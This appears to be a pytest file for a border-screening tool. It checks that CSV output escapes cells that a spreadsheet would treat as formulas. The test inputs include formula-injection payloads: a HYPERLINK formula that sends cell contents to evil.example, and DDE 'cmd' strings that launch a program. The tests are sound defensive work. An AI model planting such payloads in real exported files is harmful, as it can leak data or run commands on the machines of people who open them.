"""CSV the node writes: text that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pytest

from smartborder.cli.screen import _result_rows
from smartborder.domain import ScreeningQuery
from smartborder.spreadsheet import SafeWriter, figure, safe_cell


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Smith")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Smith")',
        ),
        ("+1 cmd|' /C calc'!A0", "'+1 cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Émilie Tremblay", "Émilie Tremblay"),
        ("O'Brien", "O'Brien"),
        ("", ""),
    ],
)
def test_text_that_starts_a_formula_is_quoted(cell: str, written: str) -> None:
    assert safe_cell(cell) == written


def test_numbers_the_node_writes_stay_numbers() -> None:
    assert safe_cell(-3) == -3 and safe_cell(-0.25) == -0.25
    assert safe_cell(figure(-0.25, ".4f")) == "-0.2500"


def test_the_writer_escapes_every_text_cell() -> None:
    out = io.StringIO()
    SafeWriter(out).writerow(["=1+1", figure(-1.5, ".1f"), -2, "a,b"])
    assert out.getvalue() == '\'=1+1,-1.5,-2,"a,b"\n'


def test_screen_results_quote_a_formula_in_an_id_a_name_or_an_explanation() -> None:
    query = ScreeningQuery('=HYPERLINK("http://evil.example","1")', "Smith")
    hit = SimpleNamespace(
        rank=1,
        score=0.97,
        list_id="agency",
        source_id="@42",
        matched_name="=cmd|' /C calc'!A0",
        explanation="-name matched",
    )
    [row] = list(csv.reader(io.StringIO(_result_rows([query], [[hit]]))))  # type: ignore[list-item]
    assert row == [
        '\'=HYPERLINK("http://evil.example","1")',
        "1",
        "0.9700",
        "agency",
        "'@42",
        "'=cmd|' /C calc'!A0",
        "'-name matched",
    ]
